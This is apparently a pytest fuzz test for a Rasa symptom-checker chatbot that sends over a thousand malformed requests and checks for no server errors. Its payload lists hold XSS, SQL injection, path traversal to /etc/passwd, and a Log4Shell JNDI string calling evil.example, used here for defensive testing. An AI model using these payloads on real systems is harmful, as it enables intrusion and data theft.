"""Over 1,000 hostile or malformed requests: no 5xx, no crash, and normal conversations still work after."""

import itertools
import json
import uuid
from concurrent.futures import ThreadPoolExecutor

import pytest
import requests
from chat import Chat

pytestmark = pytest.mark.server

REST = "/webhooks/rest/webhook"

MESSAGES = [
    "",
    " ",
    "\n\t",
    "x" * 100_000,
    "tingling " * 12_000,
    "\x00",
    "\x00\x01\x02\x1b[31mred\x1b[0m",
    "\u202e\u200b\ufeff",
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "</div><iframe src=//evil.example>",
    "'; DROP TABLE events; --",
    "1' OR '1'='1",
    '" OR 1=1 --',
    "Robert'); DELETE FROM events WHERE ('1'='1",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "/restart",
    '/greet{"x":',
    '/inform{"symptom": "numbness", "side": "left"}',
    "/nlu_fallback",
    "/session_start",
    "/action_listen",
    "Me duele mucho la pierna izquierda",
    "我的左腿很痛，已经两个星期了",
    "ساقي اليسرى تؤلمني",
    "У меня немеет нога",
    "मेरे पैर में झुनझुनी है",
    "足がしびれます",
    "🦵🦵🦵😭🔥" * 50,
    "ﷺ" * 1000,
    "é" * 5000,
    "Z̴̡͓̈́a̷̜͆l̸̰̿g̶̣͂o̵͚͝",
]
SENDERS = [
    lambda: "bad-" + uuid.uuid4().hex,
    lambda: "",
    lambda: "x" * 5000,
    lambda: "../../etc/passwd",
    lambda: "'; DROP TABLE events; --",
    lambda: "<script>",
    lambda: "séance 👻",
    lambda: "a/b?c=d#e",
    lambda: "\x00",
]
# Each message alone, after a normal start, and before a control character.
WRAPPERS = [lambda m: m, lambda m: "my left leg hurts " + m, lambda m: m + " \x00\x7f tingling"]
WRONG_TYPES = [None, 1, -1.5, True, [], ["hello"], {}, {"text": "hello"}, "1" * 10, 10**30]


def rest_requests():
    """(method, path, body bytes, content type) for the REST channel."""
    for message, sender, wrap in itertools.product(MESSAGES, SENDERS, WRAPPERS):
        yield "POST", REST, json.dumps({"sender": sender(), "message": wrap(message)}).encode(), "application/json"
    for field, value in itertools.product(("sender", "message", "metadata", "input_channel"), WRONG_TYPES):
        body = {"sender": "bad-" + uuid.uuid4().hex, "message": "hello", field: value}
        yield "POST", REST, json.dumps(body).encode(), "application/json"
        del body[field]
        yield "POST", REST, json.dumps(body).encode(), "application/json"
    for value in WRONG_TYPES:
        yield "POST", REST, json.dumps(value).encode(), "application/json"
    raw_bodies = [
        b"",
        b"{",
        b"}",
        b"null",
        b"[",
        b'{"sender": "a", "message": "hi"',
        b'{"sender": "a" "message": "hi"}',
        b"\xff\xfe\x00",
        b'{"message": "\\ud800"}',
        b'{"message": "\\u0000"}',
        b"sender=a&message=hi",
        b"<xml>hi</xml>",
        b"\x00" * 1000,
        b'{"sender": "a", "message": "hi"}' * 100,
        b"{" * 10_000,
        b"[" * 100_000,
        b'{"a":' * 5000,
        b"x" * 100_000,
        json.dumps({"message": "y" * 100_000}).encode(),
    ]
    for body, content_type in itertools.product(raw_bodies, ("application/json", "text/plain", None)):
        yield "POST", REST, body, content_type
    for method in ("GET", "PUT", "DELETE", "PATCH"):
        yield method, REST, b'{"sender": "a", "message": "hi"}', "application/json"


def api_requests(token: str):
    """The HTTP API: malformed conversation ids with the token; malformed bodies without it.

    (With the token, `POST /model/parse` answers 500 to a body that is not a JSON object with a
    string "text": Rasa's own handler; see README, Known limitations.)"""
    ids = ["bad-" + uuid.uuid4().hex, "x" * 3000, "%00", "..%2F..%2Fetc", "%3Cscript%3E", "%27%20OR%201%3D1"]
    for sender in ids:
        yield "GET", f"/conversations/{sender}/tracker?token={token}", b"", None
        yield "GET", f"/conversations/{sender}/story?token={token}", b"", None
        yield "GET", f"/conversations/{sender}/tracker?token={token}&until=abc", b"", None
    for body in (b"", b"{", b"[]", b'{"text": 5}', b'{"text": "' + b"z" * 100_000 + b'"}', b'{"text": "\\ud800"}'):
        yield "POST", "/model/parse", body, "application/json"
        yield "POST", "/model/parse?token=wrong", body, "application/json"
    for path in ("/nothing", "/webhooks/unknown/webhook", "/webhooks/rest", "/conversations", "/%00", "/" + "a" * 5000):
        yield "GET", path, b"", None
        yield "POST", path, b"{}", "application/json"


def send(bot, request) -> tuple:
    method, path, body, content_type = request
    headers = {"Content-Type": content_type} if content_type else {}
    try:
        reply = requests.request(method, bot.url + path, data=body, headers=headers, timeout=120)
    except requests.RequestException as error:
        return request, f"{type(error).__name__}"
    return request, reply.status_code


def test_a_thousand_bad_requests_get_no_server_error_and_the_bot_still_works(bot):
    batch = [*rest_requests(), *api_requests(bot.token)]
    assert len(batch) >= 1000
    with ThreadPoolExecutor(8) as pool:
        results = list(pool.map(lambda request: send(bot, request), batch))

    failures = [(r[0], r[1][:80], status) for r, status in results if not isinstance(status, int) or status >= 500]
    assert not failures, f"{len(failures)} of {len(results)} failed, e.g. {failures[:5]}"
    assert requests.get(f"{bot.url}/status", params={"token": bot.token}, timeout=30).status_code == 200

    chat = Chat(bot)
    chat.interview("I get tingling between my third and fourth toes on the left foot when I wear tight shoes", {})
    assert chat.slot("likely_conditions")[0] == "mortons_neuroma"


@pytest.mark.parametrize(
    "body, status",
    [
        (b"[]", 400), (b"null", 400), (b"5", 400), (b"{", 400), (b"", 400),
        (b'{"message": "hello"}', 400), (b'{"sender": "", "message": "hello"}', 400),
        (b'{"sender": 5, "message": "hello"}', 400), (json.dumps({"sender": "x" * 256, "message": "hi"}).encode(), 400),
        (b'{"sender": "a", "message": null}', 400), (b'{"sender": "a", "message": ["hello"]}', 400),
        (b'{"sender": "a", "message": "hi", "metadata": 5}', 400),
        (b'{"sender": "a", "message": "hi", "input_channel": 5}', 400),
        (json.dumps({"sender": "a", "message": "y" * 5001}).encode(), 413),
    ],
    ids=lambda value: value[:40].decode(errors="replace") if isinstance(value, bytes) else str(value),
)  # fmt: skip
def test_malformed_bodies_are_refused_with_a_client_error(bot, body, status):
    reply = requests.post(f"{bot.url}{REST}", data=body, headers={"Content-Type": "application/json"}, timeout=60)
    assert reply.status_code == status, reply.text
